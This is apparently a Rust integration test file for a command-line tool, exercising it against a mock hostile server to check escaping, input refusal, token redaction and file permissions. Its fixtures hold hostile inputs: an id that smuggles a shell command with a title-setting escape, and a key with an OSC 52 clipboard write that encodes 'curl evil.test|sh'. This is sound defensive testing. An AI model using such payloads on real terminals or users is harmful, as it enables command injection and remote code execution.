//! The command line against a hostile server (`support::hostile`): server-chosen ids and
//! keys with escape sequences and NUL never reach the terminal raw and never become a
//! command line that is unsafe to paste; JSON outputs stay inert; bad arguments are
//! refused before anything is sent; tokens in URLs stay out of the ledger and exports;
//! the data directory and log are private.
#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use crate::support;

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;
use support::hostile::{self, Call, Plan, Seen};
use support::taskrail::{Running, Taskrail};
use taskrail::cli::exit;

const LIMIT: Duration = Duration::from_secs(60);

/// An id that retitles the pane (OSC 0), and with a NUL that `shlex` cannot quote.
const EVIL_ID: &str = "x\u{0}'; touch PWNED; echo '\u{1b}]0;pwned\u{7}";
/// A key that writes `curl evil.test|sh` to the clipboard (OSC 52).
const EVIL_KEY: &str = "k\u{1b}]52;c;Y3VybCBldmlsLnRlc3R8c2g=\u{7}";

/// What must never reach a terminal raw.
fn assert_inert(what: &str, text: &str) {
    for (i, c) in text.chars().enumerate() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{2028}' | '\u{2029}');
        assert!(!bad, "{what}: raw U+{:04X} at char {i}:\n{text}", c as u32);
    }
}

/// SIGINT, as Ctrl-C would send.
fn interrupt(run: &Running) {
    let ok = std::process::Command::new("kill")
        .args(["-INT", &run.child.id().to_string()])
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    assert!(ok, "kill -INT failed");
}

#[test]
fn hostile_ids_and_keys_are_escaped_and_never_offered_as_commands() {
    let server = hostile::start(Plan {
        task_id: EVIL_ID.into(),
        keys: vec![EVIL_KEY.into()],
        ..Plan::default()
    });
    let tr = Taskrail::new();
    let mut call = tr.spawn(&["call", "-s", &server.url, "work"]);
    call.wait_stderr("input requested", LIMIT);
    call.wait_stderr("or type the response", LIMIT);
    interrupt(&call);
    let run = call.finish(LIMIT);
    assert_eq!(run.code, Some(exit::INTERRUPTED.into()), "{run:#?}");
    assert_inert("call stderr", &run.stderr);
    assert_inert("call stdout", &run.stdout);
    assert!(
        !run.stderr.contains("answer with:") && !run.stderr.contains("resume with:"),
        "a command line was offered for an id that cannot be quoted safely:\n{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("cannot be quoted safely"),
        "no word on why no command is offered:\n{}",
        run.stderr
    );
    // The key is shown escaped and marked, not stripped into something that looks real.
    assert!(
        run.stderr.contains(r"k\u{1b}]52;c;"),
        "the key is not shown escaped:\n{}",
        run.stderr
    );

    let prefix = &EVIL_ID[..1];
    let timeline = tr.run(&["timeline", prefix], LIMIT);
    assert_eq!(timeline.code, Some(0), "{timeline:#?}");
    assert_inert("timeline", &timeline.stdout);
    assert!(
        !timeline.stdout.contains("touch PWNED"),
        "timeline printed the full id:\n{}",
        timeline.stdout
    );
}

#[test]
fn printable_ids_that_need_quoting_give_commands_a_shell_reads_back() {
    let id = "it's a $(task) id";
    let key = "key with space";
    let server = hostile::start(Plan {
        task_id: id.into(),
        keys: vec![key.into()],
        ..Plan::default()
    });
    let tr = Taskrail::new();
    let mut call = tr.spawn(&["call", "-s", &server.url, "work"]);
    let answer = call.wait_stderr("answer with:", LIMIT);
    interrupt(&call);
    let run = call.finish(LIMIT);
    let resume = run
        .stderr
        .lines()
        .find(|l| l.contains("resume with:"))
        .unwrap_or_else(|| panic!("no resume line:\n{}", run.stderr))
        .to_string();
    let words = shlex::split(resume.split_once("resume with: ").unwrap().1).unwrap();
    assert_eq!(words.last().map(String::as_str), Some(id), "{resume}");
    let words = shlex::split(answer.split_once("answer with: ").unwrap().1).unwrap();
    assert!(
        words.iter().any(|w| w == id) && words.iter().any(|w| w == key),
        "{answer}"
    );
}

#[test]
fn json_exports_escape_c1_bidi_and_line_separators() {
    let server = hostile::start(Plan {
        task_id: "t-json-0001".into(),
        keys: vec!["a\u{9b}2J b\u{202e}txt.exe c\u{2028}d".into()],
        ..Plan::default()
    });
    let tr = Taskrail::new();
    let run = tr.run(&["get", "-s", &server.url, "t-json-0001"], LIMIT);
    assert_eq!(run.code, Some(0), "{run:#?}");
    for args in [
        vec!["timeline", "t-json", "--json"],
        vec!["export", "t-json"],
    ] {
        let out = tr.run(&args, LIMIT);
        assert_eq!(out.code, Some(0), "{out:#?}");
        assert_inert(&args.join(" "), &out.stdout);
        assert!(
            out.stdout.contains(r"\u009b") && out.stdout.contains(r"\u2028"),
            "{}: the hostile message is missing or unescaped:\n{}",
            args.join(" "),
            out.stdout
        );
    }
}

#[test]
fn answer_refuses_a_non_object_and_empty_ids_are_refused() {
    let server = hostile::start(Plan::default());
    let tr = Taskrail::new();
    for args in [
        vec!["answer", "-s", &server.url, "t-1", "k", "--json", "[]"],
        vec!["answer", "-s", &server.url, "t-1", "k", "--json", "7"],
        vec![
            "answer",
            "-s",
            &server.url,
            "t-1",
            "k",
            "--json",
            r#"{"action":"accept","content":[1]}"#,
        ],
        vec!["get", "-s", &server.url, ""],
        vec!["cancel", "-s", &server.url, ""],
        vec!["answer", "-s", &server.url, "", "k", "--json", "{}"],
        vec!["watch", "-s", &server.url, ""],
        vec!["timeline", ""],
        vec!["export", ""],
    ] {
        let run = tr.run(&args, LIMIT);
        assert_eq!(run.code, Some(exit::USAGE.into()), "{args:?}: {run:#?}");
        assert!(
            run.stderr.starts_with("error: "),
            "{args:?}: {}",
            run.stderr
        );
    }
    assert_eq!(
        Seen::count(&server.seen.posts),
        0,
        "a refused command reached the server"
    );
}

#[test]
fn url_tokens_stay_out_of_the_ledger_and_exports() {
    let server = hostile::start(Plan {
        task_id: "t-token-0001".into(),
        status: "completed",
        ..Plan::default()
    });
    let url = server
        .url
        .replacen("http://", "http://tok_USERSECRET:tok_PASSSECRET@", 1)
        + "?api_key=tok_QUERYSECRET&access_token=tok_ACCESSSECRET&region=eu";
    let tr = Taskrail::new();
    let run = tr.run(&["call", "-s", &url, "work"], LIMIT);
    assert_eq!(run.code, Some(0), "{run:#?}");
    let mut everything = run.stderr.clone();
    for args in [
        vec!["ls", "--all", "--json"],
        vec!["ls", "--all"],
        vec!["export", "t-token"],
        vec!["timeline", "t-token", "--json"],
    ] {
        let out = tr.run(&args, LIMIT);
        assert_eq!(out.code, Some(0), "{out:#?}");
        everything.push_str(&out.stdout);
        everything.push_str(&out.stderr);
    }
    everything.push_str(&String::from_utf8_lossy(
        &std::fs::read(tr.db()).unwrap_or_default(),
    ));
    everything.push_str(&std::fs::read_to_string(tr.log()).unwrap_or_default());
    assert!(
        !everything.contains("SECRET"),
        "a URL token was kept:\n{everything}"
    );
    assert!(everything.contains("region=eu"), "{everything}");
}

#[test]
fn the_data_dir_and_log_are_private_whatever_runs_first() {
    let home = tempfile::tempdir().unwrap();
    let run = std::process::Command::new(support::taskrail::bin())
        .args(["ls"])
        .env("HOME", home.path())
        .env_remove("XDG_DATA_HOME")
        .env_remove("TASKRAIL_DB")
        .env_remove("TASKRAIL_LOG")
        .env_remove("TASKRAIL_CONFIG")
        .output()
        .unwrap();
    assert!(run.status.success(), "{run:?}");
    let dir = home.path().join(".local/share/taskrail");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&dir), 0o700, "data dir");
    assert_eq!(mode(&dir.join("taskrail.log")), 0o600, "log file");
    assert_eq!(mode(&dir.join("ledger.db")), 0o600, "ledger");
}

#[test]
fn timeout_bounds_tools_call() {
    let server = hostile::start(Plan {
        call: Call::Hang,
        ..Plan::default()
    });
    let run = Taskrail::new().run(
        &["--timeout", "2", "call", "-s", &server.url, "work"],
        Duration::from_secs(30),
    );
    assert_eq!(run.code, Some(exit::CONNECTION.into()), "{run:#?}");
    assert!(run.stderr.contains("timed out"), "{}", run.stderr);
}
